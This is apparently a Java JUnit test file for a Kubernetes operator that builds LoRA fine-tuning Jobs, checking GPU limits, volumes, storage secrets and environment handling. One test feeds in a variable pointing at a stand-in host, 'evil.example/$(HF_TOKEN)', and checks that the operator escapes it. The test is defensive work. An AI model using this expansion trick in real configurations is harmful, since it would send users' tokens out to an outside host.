package io.kubelora.operator.resources;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.Volume;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import io.fabric8.kubernetes.api.model.batch.v1.PodFailurePolicyRule;
import io.fabric8.kubernetes.client.utils.Serialization;
import io.kubelora.api.EnvVarSpec;
import io.kubelora.api.LoraFineTune;
import io.kubelora.api.TrainerEnvironment;
import io.kubelora.api.TrainerExitCode;
import io.kubelora.api.platform.Profile;
import io.kubelora.operator.Runs;
import io.kubelora.operator.TestSettings;
import java.io.InputStream;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class TrainingJobTest {

    private static final String HASH = "0123456789abcdef0123456789abcdef";

    /** A profile that adds an image pull Secret and tells the trainer the memory of its GPUs. */
    private static final Profile PROFILE = Profile.of(Serialization.unmarshal("""
            apiVersion: kubelora.io/v1alpha1
            kind: FineTuneProfile
            metadata: {name: a100-80gb}
            spec:
              gpuMemory: 80Gi
              imagePullSecrets: [registry-mirror, registry-ml]
            """, com.fasterxml.jackson.databind.JsonNode.class), "profile");

    /**
     * Every field of the run, its own labels and annotations (kubectl's, the operator's and Argo CD's left out, the
     * operator's labels winning), its environment, the operator's and the profile's pull Secrets.
     */
    @Test
    void fullSpecGivesExactlyTheContractedJob() throws Exception {
        LoraFineTune run = Runs.full("llama-alpaca");
        run.getMetadata().setLabels(Map.of(RunLabels.KUEUE_QUEUE, "team-a", "cost-center", "ml-research",
                RunLabels.INSTANCE, "argo-app", "argocd.argoproj.io/instance", "training"));
        run.getMetadata().setAnnotations(Map.of("sidecar.istio.io/inject", "false",
                "kubectl.kubernetes.io/last-applied-configuration", "{}", RunLabels.RESTART_ANNOTATION, "2",
                "argocd.argoproj.io/tracking-id", "training:kubelora.io/LoraFineTune:test/llama-alpaca"));
        Job expected;
        try (InputStream in = getClass().getResourceAsStream("full-job.yaml")) {
            expected = Serialization.unmarshal(in, Job.class);
        }
        Job actual = TrainingJob.desired(run, PROFILE, TestSettings.defaults().withImagePullSecrets("registry-ml"),
                HASH);
        assertEquals(Serialization.asYaml(expected), Serialization.asYaml(actual));
    }

    /** Kubernetes would expand $(HF_TOKEN) in a plain variable into the token: it is kept as written. */
    @Test
    void aPlainVariableCannotReadAnotherOne() {
        LoraFineTune run = Runs.full("expand");
        run.setSpec(run.getSpec().toBuilder().env(List.of(new EnvVarSpec("HF_ENDPOINT",
                "https://evil.example/$(HF_TOKEN)"), new EnvVarSpec("EMPTY", null))).build());
        List<EnvVar> env = TrainingJob.desired(run, TestSettings.defaults(), HASH).getSpec().getTemplate().getSpec()
                .getContainers().get(0).getEnv();
        assertTrue(env.contains(new EnvVar("HF_ENDPOINT", "https://evil.example/$$(HF_TOKEN)", null)), env.toString());
        assertTrue(env.contains(new EnvVar("EMPTY", "", null)), env.toString());
    }

    @Test
    void minimalSpecUsesOperatorDefaultsAndOmitsWhatIsUnset() {
        Job job = TrainingJob.desired(Runs.minimal("small"),
                TestSettings.defaults().withDefaultStorage("cluster-s3", "http://minio.storage:9000"), HASH);
        Container c = job.getSpec().getTemplate().getSpec().getContainers().get(0);
        assertEquals("registry.example/kubelora/trainer:1.0", c.getImage());
        // One GPU by default, of the operator's resource; no memory or CPU asked for.
        assertEquals(Map.of("nvidia.com/gpu", new io.fabric8.kubernetes.api.model.Quantity("1")),
                c.getResources().getLimits());
        assertNull(c.getResources().getRequests());
        assertEquals("cluster-s3", c.getEnvFrom().get(0).getSecretRef().getName());
        assertTrue(c.getEnvFrom().get(0).getSecretRef().getOptional());
        assertTrue(c.getEnv().contains(new EnvVar("AWS_ENDPOINT_URL", "http://minio.storage:9000", null)));
        assertFalse(job.getSpec().getSuspend());
        assertNull(job.getSpec().getActiveDeadlineSeconds());
        assertEquals(0, job.getSpec().getBackoffLimit());
        assertEquals(List.of("config", "tmp", "cache"), job.getSpec().getTemplate().getSpec().getVolumes().stream()
                .map(v -> v.getName()).toList());
        assertNull(job.getSpec().getTemplate().getSpec().getNodeSelector());
    }

    @Test
    void aSpecStorageSecretReplacesTheDefaultEndpoint() {
        Job job = TrainingJob.desired(Runs.full("own-secret"),
                TestSettings.defaults().withDefaultStorage("cluster-s3", "http://minio.storage:9000"), HASH);
        Container c = job.getSpec().getTemplate().getSpec().getContainers().get(0);
        assertEquals(1, c.getEnvFrom().size());
        assertEquals("s3-credentials", c.getEnvFrom().get(0).getSecretRef().getName());
        assertTrue(c.getEnv().stream().noneMatch(e -> e.getName().equals("AWS_ENDPOINT_URL")));
    }

    @Test
    void operatorsModelCacheAndScratchSizeReachThePod() {
        Job job = TrainingJob.desired(Runs.minimal("cached"),
                TestSettings.defaults().withModelCache("shared-models", null, "40Gi"), HASH);
        PodSpec pod = job.getSpec().getTemplate().getSpec();
        Volume cache = volume(pod, "model-cache");
        assertEquals("shared-models", cache.getPersistentVolumeClaim().getClaimName());
        assertEquals(new Quantity("40Gi"), volume(pod, "cache").getEmptyDir().getSizeLimit());
        Container c = pod.getContainers().get(0);
        assertEquals(new Quantity("40Gi"), c.getResources().getRequests().get("ephemeral-storage"));
        assertTrue(c.getEnv().contains(new EnvVar("KUBELORA_MODEL_CACHE_DIR", "/model-cache", null)));
        assertTrue(c.getVolumeMounts().stream().anyMatch(m -> m.getName().equals("model-cache")
                && m.getMountPath().equals("/model-cache") && !m.getReadOnly()));
    }

    @Test
    void aRunsOwnClaimAndSizeWinOverTheOperatorsNodeFolder() {
        Job nodeFolder = TrainingJob.desired(Runs.minimal("node-cache"),
                TestSettings.defaults().withModelCache(null, "/var/cache/kubelora", "40Gi"), HASH);
        Volume hostPath = volume(nodeFolder.getSpec().getTemplate().getSpec(), "model-cache");
        assertEquals("/var/cache/kubelora", hostPath.getHostPath().getPath());
        assertEquals("Directory", hostPath.getHostPath().getType(), "a missing folder is not created as root");

        Job own = TrainingJob.desired(Runs.full("own-cache"),
                TestSettings.defaults().withModelCache(null, "/var/cache/kubelora", "40Gi"), HASH);
        PodSpec pod = own.getSpec().getTemplate().getSpec();
        assertEquals("model-cache", volume(pod, "model-cache").getPersistentVolumeClaim().getClaimName());
        assertEquals(new Quantity("80Gi"), volume(pod, "cache").getEmptyDir().getSizeLimit());
    }

    @Test
    void withoutCacheOrScratchSettingsThePodHasAPlainEmptyDir() {
        PodSpec pod = TrainingJob.desired(Runs.minimal("plain"), TestSettings.defaults(), HASH)
                .getSpec().getTemplate().getSpec();
        assertNull(volume(pod, "cache").getEmptyDir().getSizeLimit());
        assertTrue(pod.getVolumes().stream().noneMatch(v -> v.getName().equals("model-cache")));
        assertTrue(pod.getContainers().get(0).getEnv().stream()
                .noneMatch(e -> e.getName().equals("KUBELORA_MODEL_CACHE_DIR")));
    }

    private static Volume volume(PodSpec pod, String name) {
        return pod.getVolumes().stream().filter(v -> v.getName().equals(name)).findFirst()
                .orElseThrow(() -> new AssertionError("no volume " + name + " in " + pod.getVolumes()));
    }

    @Test
    void zeroGpusAsksForNoGpuResource() {
        LoraFineTune run = Runs.minimal("cpu");
        run.setSpec(run.getSpec().toBuilder()
                .resources(new io.kubelora.api.ResourcesSpec(0, null, null, null, null, null, null, null, null, null))
                .build());
        Container c = TrainingJob.desired(run, TestSettings.defaults(), HASH)
                .getSpec().getTemplate().getSpec().getContainers().get(0);
        assertNull(c.getResources().getLimits());
        assertTrue(c.getEnv().contains(new EnvVar("KUBELORA_POD_GPUS", "0", null)), "the trainer is told: no GPU");
    }

    @Test
    void theTrainerIsToldThePodsGpusAndAGpuItCannotUseFailsTheJobAtOnce() {
        Job job = TrainingJob.desired(Runs.minimal("gpu"), TestSettings.defaults(), HASH);
        Container c = job.getSpec().getTemplate().getSpec().getContainers().get(0);
        assertTrue(c.getEnv().contains(new EnvVar(TrainerEnvironment.POD_GPUS, "1", null)), c.getEnv().toString());
        PodFailurePolicyRule failJob = job.getSpec().getPodFailurePolicy().getRules().stream()
                .filter(r -> r.getAction().equals("FailJob")).findFirst().orElseThrow();
        assertTrue(failJob.getOnExitCodes().getValues().contains(TrainerExitCode.GPU_UNAVAILABLE.code()),
                "exit code 6 (GpuUnavailable) is not retried: " + failJob.getOnExitCodes().getValues());
    }
}
